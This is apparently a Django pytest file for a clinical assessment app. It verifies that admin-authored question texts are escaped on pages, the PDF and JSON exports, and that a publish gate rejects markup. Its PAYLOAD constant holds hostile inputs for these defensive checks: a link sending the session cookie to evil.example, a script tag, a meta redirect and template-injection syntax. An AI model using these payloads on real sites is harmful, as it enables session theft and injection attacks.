"""Text written by a question-set admin is data: escaped on every page, the PDF and the
exports, and never evaluated as a template (issue #11, item 1). The publish gate refuses
markup in texts, naming the field."""

import copy

import pytest
from django.urls import reverse
from django.utils.html import escape

from assessments.questionsets import services as qs_services
from assessments.questionsets.models import QuestionSetVersion
from assessments.reports.pdf.render import render_pdf, report_context
from assessments.reviews import services as review_services
from tests.conftest import PASSWORD
from tests.factories import draft_interview, finalized_interview, patient_for, vignette

# A link leaking the session id through template evaluation, a script, a meta refresh,
# template syntax that does not parse ({{7*7}} made every interview page answer 500)
# and template tags.
PAYLOAD = (
    '<a href="https://evil.example/?c={{ request.COOKIES.sessionid }}">l</a>'
    "<script>alert(1)</script>"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    "{{7*7}}{% now 'Y' %}{# c #}"
)
RAW_MARKERS = ["<script>alert(1)", '<meta http-equiv="refresh"', '<a href="https://evil.example']


def localized_texts(node, path=""):
    """(path, language map) of every text of a definition, in every language."""
    if isinstance(node, dict):
        if node and set(node) <= {"en", "pl"} and all(isinstance(v, str) for v in node.values()):
            yield path, node
            return
        for key, value in node.items():
            yield from localized_texts(value, f"{path}.{key}" if path else key)
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from localized_texts(value, f"{path}[{index}]")


def hostile(definition: dict) -> dict:
    result = copy.deepcopy(definition)
    for _path, texts in localized_texts(result):
        for language in list(texts):
            texts[language] = texts[language] + " " + PAYLOAD
    return result


@pytest.fixture
def hostile_version(cadi, qs_admin):
    """A published version carrying the payload in every text, as if published before the
    gate existed (stored directly: the gate now refuses it)."""
    draft = qs_services.version_clone(version=cadi, user=qs_admin)
    QuestionSetVersion.objects.filter(pk=cadi.pk).update(status="retired")
    QuestionSetVersion.objects.filter(pk=draft.pk).update(
        definition=hostile(draft.definition), status="published"
    )
    draft.refresh_from_db()
    return draft


def assert_plain(body: str, where: str):
    for marker in RAW_MARKERS:
        assert marker not in body, f"raw markup {marker!r} on {where}"


@pytest.mark.parametrize("language", ["en", "pl"])
def test_admin_texts_render_as_plain_text_everywhere(
    login, clinician, supervisor, qs_admin, hostile_version, committed, language
):
    patient = patient_for(clinician)
    answers = {
        **vignette("P6-anxiety-with-active-suicidal-thoughts")["answers"],
        "clinician_impression": "mixed",
    }
    with committed():
        interview, formulation = finalized_interview(patient, clinician, answers, PASSWORD)
    assert interview.question_set_version == hostile_version
    draft = draft_interview(patient, clinician)
    pages = {
        clinician: [
            reverse("interview-detail", args=[draft.uuid]),  # the editable form
            reverse("interview-detail", args=[interview.uuid]),  # the signed answers
            reverse("formulation-detail", args=[formulation.uuid]),
            reverse("patient-detail", args=[patient.uuid]),
        ],
        supervisor: [reverse("review-detail", args=[formulation.review.uuid]), reverse("review-queue")],
        qs_admin: [
            reverse("questionset-version", args=[hostile_version.uuid]),
            reverse("questionset-diff", args=[hostile_version.uuid]),
        ],
    }
    escaped_seen = 0
    for user, urls in pages.items():
        client = login(user)
        client.cookies["django_language"] = language
        for url in urls:
            response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
            assert response.status_code == 200, url
            body = response.content.decode()
            assert_plain(body, url)
            assert client.cookies["sessionid"].value not in body, f"session id leaked on {url}"
            # Shown whole and escaped: neither evaluated nor interpreted.
            escaped_seen += body.count(escape(PAYLOAD))
    assert escaped_seen > 20
    # The JSON exports carry the texts as data (JSON strings, served as JSON, never sniffed).
    exports = [
        (clinician, reverse("interview-fhir", args=[interview.uuid])),
        (qs_admin, reverse("questionset-fhir", args=[hostile_version.uuid])),
        (qs_admin, reverse("questionset-export", args=[hostile_version.uuid])),
    ]
    for user, url in exports:
        response = login(user).get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("application/") and "json" in response["Content-Type"], url
        assert response["X-Content-Type-Options"] == "nosniff"
        response.json()
    # The PDF's HTML and the PDF itself.
    from django.template.loader import render_to_string
    from django.utils import translation

    with translation.override(language):
        html = render_to_string("reports/formulation_pdf.html", report_context(formulation))
        assert_plain(html, "pdf html")
        assert escape(PAYLOAD) in html
        assert render_pdf(formulation).startswith(b"%PDF")
    review_services.review_endorse(
        review=formulation.review, user=supervisor, password=PASSWORD, impression="mixed"
    )


def test_the_publish_gate_refuses_markup_naming_the_field(cadi, qs_admin):
    draft = qs_services.version_clone(version=cadi, user=qs_admin)
    definition = copy.deepcopy(draft.definition)
    definition["sections"][1]["title"]["pl"] += " <b>bold</b>"
    definition["sections"][1]["items"][0]["help"] = {"en": "See {{ request.user }}", "pl": "Zobacz"}
    qs_services.version_definition_save(version=draft, definition=definition, user=qs_admin, change={})
    with pytest.raises(qs_services.PublishRefused) as refused:
        qs_services.version_publish(version=draft, user=qs_admin, password=PASSWORD)
    section = definition["sections"][1]
    item = section["items"][0]["code"]
    assert sorted(refused.value.errors) == [
        f"sections[{section['code']}].items[{item}].help.en: write plain text; HTML tags and template syntax"
        " ({{ }}, {% %}) are not allowed.",
        f"sections[{section['code']}].title.pl: write plain text; HTML tags and template syntax"
        " ({{ }}, {% %}) are not allowed.",
    ]
    draft.refresh_from_db()
    assert draft.status == "draft"


def test_the_publish_gate_accepts_plain_comparisons(cadi, qs_admin):
    draft = qs_services.version_clone(version=cadi, user=qs_admin)
    definition = copy.deepcopy(draft.definition)
    definition["sections"][1]["items"][0]["help"] = {
        "en": "Fewer than < 3 days, or > 5",
        "pl": "Mniej niż < 3 dni",
    }
    qs_services.version_definition_save(version=draft, definition=definition, user=qs_admin, change={})
    assert qs_services.version_publish(version=draft, user=qs_admin, password=PASSWORD).status == "published"
